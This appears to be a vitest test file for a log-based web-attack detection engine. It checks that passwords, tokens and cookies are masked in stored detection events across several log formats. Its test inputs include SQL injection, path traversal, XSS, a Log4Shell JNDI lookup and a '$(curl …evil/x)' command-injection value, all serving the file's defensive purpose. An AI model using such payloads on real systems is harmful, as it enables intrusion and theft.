import { createEngine } from '@vigil/detection';
import { createLineParser } from '@vigil/detection/formats/line-parser';
import { ruleMatchSchema, type RuleMatch, type ScoredRequest } from '@vigil/shared/contracts';
import { expect, it } from 'vitest';
import { logLine } from '../testing/line-batch.ts';
import { toScoredRequest } from './scored-request.ts';

const engine = createEngine();

/** What is stored of a line, with these matches in place of the engine's where given. */
function eventOf(line: string, matches?: RuleMatch[]): ScoredRequest {
  const parser = createLineParser();
  const parsed = parser.parse(line);
  if (!parsed.ok) throw new Error(parsed.reason);
  const assessment = engine.conclude(parsed.request, engine.inspect(parsed.request));
  return toScoredRequest({
    id: '6f2b1b7c-3d3e-8a55-9c1d-0e5b5f0c1a11',
    source: 's',
    position: 0,
    line,
    spans: parser.spans(line),
    request: parsed.request,
    assessment: { ...assessment, matches: matches ?? assessment.matches },
    window: undefined,
    rulesVersion: 'v',
  });
}

it('keeps secrets out of everything that is stored of a detection, and its spans where they were', () => {
  const secret = 'hunter2hunter2';
  const target = `/item?id=1%27%20union%20select%20a%20from%20b--&password=${secret}&api_key=' or 1=1--${secret}`;
  const line = `10.0.0.1 - - [02/Mar/2026:10:00:00 +0000] "GET ${target} HTTP/1.1" 200 5 "https://h/?session=${secret}" "curl/8"`;
  const event = eventOf(line);
  expect(event.severity).toBe('HIGH');
  expect(JSON.stringify(event)).not.toContain('hunter2');
  expect(event.line).toContain('password=***');
  for (const { field, lineSpan } of event.matches) {
    if (lineSpan === undefined || field === 'referer' || field === 'request_line') continue;
    const text = event.line.slice(...lineSpan);
    expect(text.startsWith('/item?id=1')).toBe(true);
    expect(text.endsWith('api_key=***')).toBe(true);
  }
});

it('keeps secrets out of the path and of every excerpt, however they were decoded', () => {
  const secret = 'hunter2hunter2';
  const line = `10.0.0.1 - - [02/Mar/2026:10:00:00 +0000] "GET /item;jsessionid=${secret}?api_key=${secret}&id=1 HTTP/1.1" 200 5`;
  const match = { rule: 'r', class: 'XSS', score: 0.9, decoded: [], span: [0, 5] as [number, number] };
  const event = eventOf(line, [
    { ...match, field: 'request_line', excerpt: `GET /item;jsessionid=${secret}` },
    // As base64 or another decoding shows it: no piece of what was sent.
    { ...match, field: 'param_value', parameter: 'api_key', excerpt: 'decoded hunter2' },
  ]);
  expect(event.path).toBe('/item;jsessionid=***');
  expect(event.matches.map(({ excerpt }) => excerpt)).toEqual(['GET /item;jsessionid=***', '***']);
  expect(JSON.stringify(event)).not.toContain('hunter2');
});

const SECRET = 'hunter2hunter2';
const ATTACK = `/?id=1%27%20union%20select%20a%20from%20b--`;
/** As Go writes JSON. */
const goJson = (value: unknown): string =>
  JSON.stringify(value).replaceAll(/[<>&]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`);
const docker = (log: string): string => goJson({ log: `${log}\n`, stream: 'stdout', time: '2026-03-02T10:00:00Z' });
const traefik = (RequestPath: string): string =>
  goJson({
    ClientHost: '203.0.113.9',
    RequestMethod: 'GET',
    RequestPath,
    DownstreamStatus: 200,
    StartUTC: '2026-03-02T10:00:00Z',
  });

it.each([
  ['Traefik', traefik(`${ATTACK}&password=${SECRET}`)],
  ['Traefik, a value with blanks and quotes', traefik(`${ATTACK}&password="x ${SECRET}" ${SECRET}`)],
  ['Docker', docker(logLine(`${ATTACK}&password=${SECRET}`))],
  ['Traefik in Docker', docker(traefik(`${ATTACK}&password=${SECRET}`))],
  ['the agent', logLine(ATTACK).replace('Mozilla/5.0', `Mozilla/5.0 https://h/?token=${SECRET}`)],
])('keeps secrets out of the line and the fields that are stored: %s', (_, line) => {
  const event = eventOf(line);
  expect(event.severity).toBe('HIGH');
  expect(JSON.stringify(event)).not.toContain('hunter2');
  expect(event.line).toContain('***');
});

const twice = (text: string): string => encodeURIComponent(encodeURIComponent(text)).replaceAll("'", '%2527');

it.each([
  "hunter2hunter2' or '1'='1",
  '../../hunter2hunter2/etc/passwd',
  '<img src=hunter2hunter2 onerror=alert(1)>',
  "admin'/*hunter2hunter2*/or/**/1=1--",
  '$(curl http://hunter2hunter2.evil/x)',
  "javascript:alert('hunter2hunter2')",
  'hunter2hunter2" or "1"="1',
  String.raw`..\..\hunter2hunter2\windows\win.ini`,
])('keeps the secret %s out of evidence, however often it was encoded and wherever it stands', (secret) => {
  const nested = encodeURIComponent(`https://h/?password=${encodeURIComponent(secret)}`);
  const referer = logLine('/').replace('"-"', `"https://h.example/?password=${twice(secret)}"`);
  const document = JSON.stringify({ user: 'x', password: secret });
  const inDocument = twice(JSON.stringify({ d: document }));
  for (const line of [
    logLine(`/?password=${twice(secret)}`),
    logLine(`/?next=${nested}`),
    referer,
    logLine(`/?d=${encodeURIComponent(document)}`),
    logLine(`/?d=${encodeURIComponent(document.replaceAll('/', '\\/'))}`),
    logLine(`/?d=${inDocument}`),
    referer.replace('?password=', `?d=${inDocument}&password=`),
    docker(traefik(`/?d=${document}`)),
  ]) {
    const event = eventOf(line);
    expect(event.matches).not.toEqual([]);
    expect(JSON.stringify(event)).not.toContain('hunter2');
  }
});

it('keeps a line within its bound whose secrets are shorter than what stands for them', () => {
  const event = eventOf(logLine(`${ATTACK}&${'pin=1&'.repeat(1_300)}`));
  expect(event.line.length).toBe(8_192);
  const cut = eventOf(
    logLine(`${ATTACK}&${'pin=1&'.repeat(1_300)}`).replace('pin=1&', `a=${'\u00c3\u00a9'.repeat(200)}&`),
  );
  expect(cut.line).not.toMatch(/\u00c3|\ufffd/);
});

it('goes on after a secret in JSON where its parameter ends', () => {
  expect(eventOf(traefik(`/?password=${SECRET}&${ATTACK.slice(2)}`)).line).toContain('password=***\\u0026id=1%27');
});

it('hides the evidence of a request with more secrets than are looked for, and its line where it is not known where they end', () => {
  const many = Array.from({ length: 300 }, (_, index) => `pin=%41${index} ${SECRET}`).join('&');
  const target = `${ATTACK}&${many}`;
  for (const line of [logLine(encodeURI(target)), docker(logLine(encodeURI(target))), traefik(target)]) {
    const event = eventOf(line);
    expect(new Set(event.matches.map(({ excerpt }) => excerpt))).toEqual(new Set(['***']));
    expect(JSON.stringify(event)).not.toContain('hunter2');
  }
});

it('cuts an excerpt that grew while secrets were taken out where a character begins', () => {
  const excerpt = `password=ab&${'\u{1f600}'.repeat(94)}`;
  const [match] = eventOf(logLine('/x?password=ab&q=1'), [
    { rule: 'r', class: 'C', score: 0.5, field: 'query', decoded: [], excerpt, span: [0, excerpt.length] },
  ]).matches;
  expect(match?.excerpt).toMatch(/^password=\*\*\*&/);
  expect(match?.excerpt.length).toBeLessThanOrEqual(200);
  expect(match?.excerpt.isWellFormed()).toBe(true);
});

it('tells of evidence in headers and names what releases before understand, beside what it is', () => {
  const jndi = '${jndi:ldap://a.example/b}';
  const line = `10.0.0.1 - ${jndi} [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8" "${jndi}"`;
  const { matches, line: stored } = eventOf(line);
  expect(matches.map(({ field, laterField }) => [field, laterField])).toEqual([['request_line', 'header']]);
  expect(stored.slice(...matches[0]!.lineSpan!)).toContain(jndi);
  const ofUser = eventOf(line.replace(` "${jndi}"`, ''));
  expect(ofUser.matches.map(({ laterField }) => laterField)).toEqual(['remote_user']);
  expect(ofUser.line.slice(...ofUser.matches[0]!.lineSpan!)).toBe(jndi);
  const read = ruleMatchSchema.parse(JSON.parse(JSON.stringify({ ...matches[0], laterField: 'of_next_year' })));
  expect([read.field, read.laterField]).toEqual(['request_line', undefined]);
});

it('stores no cookies of a line that is an attack by one of them', () => {
  const cookies = `lang=de; PHPSESSID=${SECRET}; seen=<script>alert(1)</script>; auth_token=${SECRET}`;
  const event = eventOf(`10.0.0.1 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8" "${cookies}"`);
  expect(new Set(event.matches.map(({ laterField }) => laterField))).toEqual(new Set(['header']));
  expect(event.line).toContain('PHPSESSID=***; seen=<script>');
  expect(JSON.stringify(event)).not.toContain('hunter2');
});
